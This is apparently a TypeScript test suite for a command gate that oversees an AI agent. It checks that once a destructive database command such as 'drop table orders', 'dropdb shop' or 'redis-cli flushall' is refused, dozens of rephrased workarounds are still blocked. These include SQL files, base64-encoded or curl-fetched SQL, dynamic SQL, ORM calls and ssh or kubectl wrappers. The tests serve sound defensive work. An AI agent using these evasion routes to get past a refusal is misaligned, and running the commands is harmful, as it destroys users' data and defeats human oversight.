import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { dirname } from 'node:path';
import type { Judge, Review } from '../../../src/judge/judge';
import { GateFixture } from '../../support/gateFixture';

/** A command line; before it, the files that the agent writes first: by their names, with their texts. */
type Road = string | readonly [Readonly<Record<string, string>>, string];

const base64 = (text: string) => Buffer.from(text).toString('base64');

function decidesAlways(decision: 'allow' | 'block', asked: string[]): Judge {
  return {
    review: async (): Promise<Review> => {
      asked.push(decision);
      const severity = decision === 'allow' ? 1 : 95;
      return { status: 'decided', decision, severity, reason: 'So.', by: 'model', stages: [], isRemembered: false };
    },
  };
}

describe('what was refused on a database', () => {
  let fixture: GateFixture;
  let asked: string[];

  beforeEach(() => {
    asked = [];
    fixture = new GateFixture({ refusalLimits: { inARow: 1000, inAll: 1000 } });
    mkdirSync(fixture.root, { recursive: true });
  });

  afterEach(() => fixture.dispose());

  async function write(files: Readonly<Record<string, string>>): Promise<void> {
    for (const [path, after] of Object.entries(files)) {
      mkdirSync(dirname(fixture.path(path)), { recursive: true });
      const action = { kind: 'edit', path: fixture.path(path), before: null, after, beforeSha256: null } as const;
      assert.equal((await fixture.propose(action)).status, 'done', path);
    }
  }

  /** Has the judge refuse one, or the person what isn't the judge's, then allow whatever it is asked: the rule of the other where that is blocked. */
  async function ruleAfter(refused: Road, road: Road): Promise<string | undefined> {
    const [first, second] = [refused, road].map((one) => (typeof one === 'string' ? ([{}, one] as const) : one));
    assert.ok(first !== undefined && second !== undefined);
    await write(first[0]);
    fixture.dials.judge = decidesAlways('block', asked);
    if ((await fixture.propose(fixture.command(first[1]))).status !== 'blocked') {
      const hold = fixture.holds.waiting().at(-1);
      assert.ok(hold !== undefined && fixture.gate.deny(hold.id), first[1]);
    }
    fixture.dials.judge = decidesAlways('allow', asked);
    await write(second[0]);
    asked.length = 0;
    fixture.dials.act = () => ({ ok: true, text: '', summary: '' });
    const outcome = await fixture.propose(fixture.command(second[1]));
    return outcome.status === 'blocked' ? outcome.verdict.rule : undefined;
  }

  const SQL = 'drop table orders';
  const ROADS: readonly (readonly [Road, readonly Road[]])[] = [
    [
      `psql -c "${SQL}"`,
      [
        [{ 'x.sql': `${SQL};\n` }, 'psql -f x.sql'],
        [{ 'sub/x.sql': `BEGIN;\n${SQL};\nCOMMIT;\n` }, 'cd sub && psql -f x.sql'],
        [{ 'x.sql': `${SQL};\n` }, 'psql < x.sql'],
        [{ 'x.sql': `${SQL};\n` }, 'psql -c "\\i x.sql"'],
        [{ 'x.sql': `${SQL};\n` }, 'psql -c "$(cat x.sql)"'],
        [{ 'x.sql': `${SQL};\n` }, 'cp x.sql y.txt && psql -f y.txt'],
        [{ 'a.sql': '\\i sub/b.sql\n', 'sub/b.sql': `${SQL};\n` }, 'psql -f a.sql'],
        'psql -f gone.sql',
        'psql -f "$(ls *.sql)"',
        'psql -c "$STATEMENT"',
        `base64 -d <<< ${base64(SQL)} | psql`,
        `echo ${base64(SQL)} | base64 -d | psql`,
        'curl -s https://example.com/x.sql | psql',
        `psql <<E\n${SQL};\nE`,
        `psql -c"${SQL}"`,
        'psql -c "drop table if exists public.orders cascade"',
        'psql -c "DROP TABLE shop.orders"',
        'psql -c \'drop table "public"."orders"\'',
        'psql -c "drop table customers, orders"',
        'psql -c "drop/**/table/* now */orders"',
        'psql -c "drop -- it\ntable orders"',
        'psql -c "truncate only orders"',
        'psql -c "delete from orders where true"',
        'psql -c "delete from orders where id < 1000"',
        'psql -c "alter table orders rename to old"',
        "psql -c \"DO \\$\\$ begin execute 'drop table ' || 'orders'; end \\$\\$\"",
        'psql -c "DO \\$x\\$ begin execute format(\'drop table %I\', name); end \\$x\\$"',
        `psql -c "DO \\$x\\$ begin execute convert_from(decode('${base64(SQL)}', 'base64'), 'utf8'); end \\$x\\$"`,
        "mysql -e 'drop table `orders`'",
        'sqlcmd -Q "drop table [dbo].[orders]"',
        'sqlite3 app.db "drop table orders"',
        'docker exec db psql -c "drop table orders"',
        'pg_restore --clean -t orders d.dump',
        'dropdb shop',
        'psql -c "drop schema public cascade"',
        'npx prisma migrate reset --force',
        'rails db:drop',
        'mongosh --eval "db.orders.drop()"',
        `python3 -c "import psycopg2; psycopg2.connect('').cursor().execute('${SQL}')"`,
        [{ 'd.py': `import psycopg2\nc = psycopg2.connect("")\nc.cursor().execute("${SQL}")\n` }, 'python3 d.py'],
        [
          { 'd.py': 'import psycopg2\nt = "orders"\npsycopg2.connect("").cursor().execute("drop table " + t)\n' },
          'python3 d.py',
        ],
        [
          {
            'x.sql': `${SQL};\n`,
            'd.py': 'import psycopg2\npsycopg2.connect("").cursor().execute(open("x.sql").read())\n',
          },
          'python3 d.py',
        ],
        `node -e "require('pg').query('${SQL}')"`,
        `node -e "require('pg').query(['drop', 'table', 'orders'].join(' '))"`,
        `node -e "require('pg').query(atob('${base64(SQL)}'))"`,
        `node -e "require('pg').query(Buffer.from('${Buffer.from(SQL).toString('hex')}', 'hex').toString())"`,
        [{ 'd.js': `const pg = require('pg');\nnew pg.Client().query("${SQL}");\n` }, 'node d.js'],
        [
          { 'm.js': `module.exports = "${SQL}";\n`, 'd.js': "require('pg').Client.query(require('./m'));\n" },
          'node d.js',
        ],
        [
          {
            'db/migrate/1_x.rb':
              'class X < ActiveRecord::Migration[7.0]\n  def up\n    drop_table :orders\n  end\nend\n',
          },
          'rails db:migrate',
        ],
        [{ 'migrations/1.sql': 'drop table orders;\n' }, 'flyway migrate'],
        [{ 'knex/1.js': "exports.up = (k) => k.schema.dropTable('orders');\n" }, 'npx knex migrate:latest'],
        [{ 'migrations/1.sql': `${SQL};\n` }, 'npx prisma db execute --file migrations/1.sql'],
        'ssh db "psql -c \'drop table orders\'"',
        'kubectl exec pg-0 -- psql -c "drop table orders"',
        'T=orders; psql -c "drop table $T"',
        'printf "drop table %s" orders | psql',
        'psql -c "with x as (delete from orders returning *) select 1"',
        'psql -c "insert into a values (1); drop table orders"',
        'psql -c "select drop_it(\'orders\')"',
        'python manage.py shell -c "from shop.models import Order; Order.objects.all().delete()"',
        'rails runner "Order.delete_all"',
        'wp db reset --yes',
        `ruby -e "require 'pg'; PG.connect.exec('${SQL}')"`,
        `php -r "(new PDO('x'))->exec('${SQL}');"`,
      ],
    ],
    [
      [{ 'x.sql': `${SQL};\n` }, 'psql -f x.sql'],
      [`psql -c "${SQL}"`, `mysql shop -e "${SQL}"`],
    ],
    [`node -e "require('pg').query('${SQL}')"`, [`psql -c "${SQL}"`]],
    ['psql -c "drop table public.orders"', ['psql -c "drop table orders"', 'psql -c "drop schema public cascade"']],
    [
      'psql -c "insert into users values (1)"',
      [[{ 'x.sql': 'INSERT INTO public.users VALUES (1);\n' }, 'psql -f x.sql']],
    ],
    ['sqlite3 app.db "drop table orders"', ['rm app.db', 'cp empty.db app.db']],
    [
      'redis-cli flushall',
      [
        'redis-cli flushdb',
        'redis-cli -n 1 FLUSHDB ASYNC',
        'echo flushall | redis-cli',
        'node -e "new (require(\'ioredis\'))().flushall()"',
      ],
    ],
    ['redis-cli del session', ['redis-cli unlink session', 'redis-cli flushall']],
    [
      'mongosh --eval "db.orders.drop()"',
      ['mongosh --eval "db.orders.deleteMany({})"', 'mongosh --eval "db.dropDatabase()"'],
    ],
    ['dropdb shop', ['psql -c "drop database shop"', 'mysqladmin -f drop shop', 'psql shop -c "drop table orders"']],
    [
      'frobnicate --wipe data',
      [
        'env frobnicate --wipe ./data',
        'timeout 5 frobnicate --wipe "$PWD/data"',
        'nohup nice -n 5 frobnicate --wipe ./data/',
        'sh -c "exec frobnicate --wipe ././data"',
      ],
    ],
    ['frobnicate', ['env frobnicate', 'timeout 5 frobnicate']],
  ];

  for (const [refused, roads] of ROADS)
    for (const road of roads)
      it(`is known after ${shown(refused)} in ${shown(road)}`, async () => {
        assert.equal(await ruleAfter(refused, road), 'gate.refused-before');
        assert.deepEqual(asked, []);
      });

  const OTHERS: readonly (readonly [Road, readonly Road[]])[] = [
    [
      `psql shop -c "${SQL}"`,
      [
        'psql shop -c "drop table orders_old"',
        'psql shop -c "drop table customers"',
        'psql shop -c "truncate sessions"',
        'psql shop -c "select count(*) from orders"',
        'psql -h staging shop -c "select * from orders"',
        'psql shop -c "insert into orders values (1)"',
        'psql shop -c "update orders set paid = true where id = 3"',
        'psql shop -c "create index on orders (id)"',
        'psql shop -c "alter table orders add column note text"',
        'psql shop -c "vacuum orders"',
        'psql shop -c "delete from carts where id = 3"',
        'psql shop -c "delete from carts using orders where carts.id = orders.cart"',
        'psql shop -c "drop index old_idx"',
        [
          { 'm.sql': 'create table if not exists invoices (id int);\nalter table users add column age int;\n' },
          'psql -f m.sql',
        ],
        [{ 'm.sql': '-- instead of drop table orders\ndrop table carts;\n' }, 'psql -f m.sql'],
        [{ 'm.sql': 'drop table carts;\n' }, 'cat m.sql | psql'],
        [{ 'd.py': 'import psycopg2\npsycopg2.connect("").cursor().execute("drop table carts")\n' }, 'python3 d.py'],
        [{ 'd.js': "require('pg').query('select * from orders');\n" }, 'node d.js'],
        "node -e \"require('pg').query('delete from carts')\"",
        'npx prisma migrate deploy',
        'rails db:migrate',
        'pg_restore -t carts d.dump',
        'createdb shop_test',
        [
          {
            'db/migrate/1_x.rb':
              'class X < ActiveRecord::Migration[7.0]\n  def up\n    drop_table :carts\n  end\nend\n',
          },
          'rails db:migrate',
        ],
        'rails runner "Cart.delete_all"',
        'rails runner "puts 1"',
        'psql -c "copy orders to stdout"',
        'psql -c "create view v as select * from orders"',
        'psql -c "insert into archive select * from orders"',
        'psql -c "select refresh()"',
        'pg_dump -t orders > o.sql',
        'git commit -m "drop table orders later"',
        'grep -rn "drop table orders" .',
        [
          { 'd.js': "require('pg').Client.query('drop table carts');\n" },
          'node d.js && git commit -m "drop table orders"',
        ],
        'npm test',
        'frobnicate orders',
        'docker exec db psql -c "drop table carts"',
      ],
    ],
    ['docker exec db psql -c "drop table orders"', ['docker exec db psql -c "drop table carts"']],
    ['psql -c "drop table public.orders"', ['psql -c "drop table archive.orders"', 'psql -c "drop schema archive"']],
    ['dropdb shop', ['dropdb other', 'psql -c "delete from carts where id = 3"']],
    ['redis-cli flushall', ['redis-cli set a 1', 'redis-cli del session']],
    ['redis-cli del session', ['redis-cli del cart']],
    ['sqlite3 app.db "drop table orders"', ['rm other.db', 'sqlite3 app.db "drop table carts"']],
    ['mongosh --eval "db.orders.drop()"', ['mongosh --eval "db.carts.drop()"']],
    ['python3 -c "import os; os.remove(\'/srv/a\')"', ['python3 -c "import os; os.remove(\'/srv/b\')"']],
    ['frobnicate --wipe data', ['frobnicate --wipe other', 'env frobnicate --list other']],
    ['env frobnicate data', ['env frobnicate other']],
  ];

  for (const [refused, others] of OTHERS)
    for (const other of others)
      it(`isn't seen after ${shown(refused)} in ${shown(other)}`, async () => {
        assert.equal(await ruleAfter(refused, other), undefined);
      });

  it('is known where the person denied it', async () => {
    await fixture.propose(fixture.command(`psql -c "${SQL}"`));
    const [hold] = fixture.holds.waiting();
    assert.ok(hold !== undefined && fixture.gate.deny(hold.id));
    fixture.dials.judge = decidesAlways('allow', asked);
    await write({ 'x.sql': `${SQL};\n` });
    const outcome = await fixture.propose(fixture.command('psql -f x.sql'));
    assert.equal(outcome.status, 'blocked');
    assert.deepEqual(asked, []);
  });

  it('is looked through in a moment, however a text is made', async () => {
    const texts = ['/*', 'drop table ', 'update a.a.a.a', "'+'", '.remove(', 'a', 'grant on ', 'x.y/', '--'].map(
      (one) => one.repeat(Math.floor(190_000 / one.length)),
    );
    for (const text of texts) {
      const started = performance.now();
      await ruleAfter(`psql -c "${SQL}"`, [
        { [`${texts.indexOf(text)}.sql`]: text },
        `psql -f ${texts.indexOf(text)}.sql`,
      ]);
      assert.ok(performance.now() - started < 5000, text.slice(0, 20));
    }
  });
});

function shown(road: Road): string {
  return typeof road === 'string'
    ? road
    : `${Object.values(road[0])
        .map((text) => text.trim())
        .join('; ')}; ${road[1]}`;
}
